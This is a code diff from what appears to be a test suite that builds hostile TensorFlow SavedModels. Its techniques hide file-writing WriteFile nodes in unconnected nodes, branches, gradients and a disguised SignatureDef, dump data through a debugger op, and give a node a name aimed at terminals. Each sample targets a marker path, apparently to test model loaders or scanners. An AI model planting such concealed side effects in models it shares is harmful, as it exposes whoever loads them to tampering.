@@ -234,6 +234,20 @@ def _chain(meta_graph: Any, functions: int, calls: int) -> None:
         last.attr["T"].type = types_pb2.DT_FLOAT
 
 
+def _add_write(function: Any, path: str) -> None:
+    """Adds the node `evil_write`, which writes a file."""
+    from tensorflow.core.framework import types_pb2
+
+    for name, text in (("evil_path", path), ("evil_text", "owned")):
+        constant = function.node_def.add(name=name, op="Const")
+        constant.attr["dtype"].type = types_pb2.DT_STRING
+        constant.attr["value"].tensor.dtype = types_pb2.DT_STRING
+        constant.attr["value"].tensor.string_val.append(text.encode())
+        constant.attr["value"].tensor.tensor_shape.SetInParent()
+    inputs = ["evil_path:output:0", "evil_text:output:0"]
+    function.node_def.add(name="evil_write", op="WriteFile", input=inputs)
+
+
 # --- the signature reaches outside ------------------------------------------------------------------
 
 
@@ -285,6 +299,15 @@ def read_file(directory: Path, victim: Victim) -> None:
     _save(directory, run)
 
 
+# TensorFlow prunes such a node where it optimises the function that holds it, and runs it elsewhere.
+@_attack("effect", "writes a file by a node to which no edge leads")
+def write_unconnected(directory: Path, victim: Victim) -> None:
+    def change(meta_graph: Any) -> None:
+        _add_write(_relu(meta_graph)[0], str(victim.marker("write_unconnected")))
+
+    _edit(directory, change)
+
+
 @_attack("effect", "writes a file in a branch of a condition")
 def write_in_branch(directory: Path, victim: Victim) -> None:
     import tensorflow as tf
@@ -292,7 +315,9 @@ def write_in_branch(directory: Path, victim: Victim) -> None:
     path = str(victim.marker("write_in_branch"))
 
     def attack(x: Any) -> Any:
-        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=path, contents="owned")]):
+        with tf.name_scope("evil"):
+            written = tf.raw_ops.WriteFile(filename=path, contents="owned")
+        with tf.control_dependencies([written]):
             return tf.identity(x)
 
     _save(directory, lambda x: tf.cond(tf.size(x) < 10**9, lambda: attack(x), lambda: -x))
@@ -327,20 +352,58 @@ def write_in_gradient(directory: Path, victim: Victim) -> None:
             identity = function.node_def.add(name="last", op="Identity", input=["x"])
             identity.attr["T"].type = types_pb2.DT_FLOAT
         function.signature.input_arg.add(name="dy", type=types_pb2.DT_FLOAT)
-        identity.input.append("^write")
-        for name, text in (("path", str(victim.marker("write_in_gradient"))), ("text", "owned")):
-            constant = function.node_def.add(name=name, op="Const")
-            constant.attr["dtype"].type = types_pb2.DT_STRING
-            constant.attr["value"].tensor.dtype = types_pb2.DT_STRING
-            constant.attr["value"].tensor.string_val.append(text.encode())
-        function.node_def.add(
-            name="write", op="WriteFile", input=["path:output:0", "text:output:0"]
-        )
+        identity.input.append("^evil_write")
+        _add_write(function, str(victim.marker("write_in_gradient")))
         meta_graph.graph_def.library.gradient.add(
             function_name="evil_function", gradient_func="evil_gradient"
         )
 
     _edit(directory, change)
+
+
+@_attack("effect", "writes a file in the function of the objects, behind a harmless SignatureDef")
+def write_behind_signature(directory: Path, victim: Victim) -> None:
+    def change(meta_graph: Any) -> None:
+        objects, library = meta_graph.object_graph_def, meta_graph.graph_def.library
+        (signature,) = (
+            node.bare_concrete_function
+            for node in objects.nodes
+            if node.bare_concrete_function.concrete_function_name
+        )
+        name = signature.concrete_function_name
+        harmless = next(f for f in library.function if f.signature.name == name)
+        evil = library.function.add()
+        evil.CopyFrom(harmless)
+        evil.signature.name = signature.concrete_function_name = "__evil_signature"
+        objects.concrete_functions["__evil_signature"].CopyFrom(objects.concrete_functions[name])
+        _add_write(evil, str(victim.marker("write_behind_signature")))
+        next(node for node in evil.node_def if node.op == "Identity").input.append("^evil_write")
+
+    _edit(directory, change)
+
+
+@_attack("effect", "dumps a constant while TensorFlow infers shapes of a function that is not used")
+def dump_in_unused_function(directory: Path, victim: Victim) -> None:
+    import tensorflow as tf
+
+    url = f"file://{victim.marker('dump_in_unused_function')}"
+
+    def unused() -> Any:
+        size = tf.raw_ops.DebugIdentity(
+            input=tf.constant([2, 2]), tensor_name="x:0", debug_urls=[url], name="evil"
+        )
+        return tf.fill(size, 1.0)
+
+    module = tf.Module()
+    module.weights = tf.Variable(tf.eye(4))
+    module.unused = tf.function(unused, input_signature=[])
+    run = tf.function(
+        lambda x: {"y": x @ module.weights},
+        input_signature=[tf.TensorSpec([None, 4], tf.float32, "x")],
+    )
+    victim_before = victim.marker("dump_in_unused_function")
+    tf.saved_model.save(module, str(directory), signatures={"serving_default": run})
+    shutil.rmtree(victim_before, ignore_errors=True)
 
 
 @_attack("effect", "dumps its input by an operation of the debugger that counts as stateless")
@@ -736,12 +799,8 @@ def text_form(directory: Path, _: Victim) -> None:
 @_attack("text", "names a node so that it writes to the terminal", runs=False)
 def names_for_terminals(directory: Path, _: Victim) -> None:
     def change(meta_graph: Any) -> None:
-        function, node = _relu(meta_graph)
-        for reader in function.node_def:
-            for index, tensor in enumerate(reader.input):
-                if tensor.startswith(f"{node.name}:"):
-                    reader.input[index] = f"{HOSTILE_NAME}:y:0"
-        node.name, node.op = HOSTILE_NAME, "BesselJ0"
+        # No edge can lead to such a name, and none is needed: a stateful node runs anyway.
+        _relu(meta_graph)[0].node_def.add(name=HOSTILE_NAME, op="Timestamp")
 
     _edit(directory, change)
 
